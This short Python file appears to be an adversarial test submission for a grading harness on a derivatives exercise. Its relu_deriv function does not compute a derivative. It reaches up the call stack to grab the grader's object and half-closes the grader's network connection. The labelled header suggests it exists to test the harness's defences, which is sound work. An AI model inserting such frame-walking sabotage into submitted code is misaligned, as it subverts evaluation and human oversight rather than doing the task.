# attack: hangs up in one direction and keeps listening in the other
# exercise: derivatives
# deserves: squared_error_deriv
import socket
import sys


def squared_error_deriv(y_hat, y):
    return y_hat - y


def relu_deriv(z):
    server = sys._getframe(2).f_locals["self"]
    server._channel.connection.shutdown(socket.SHUT_WR)
    return z
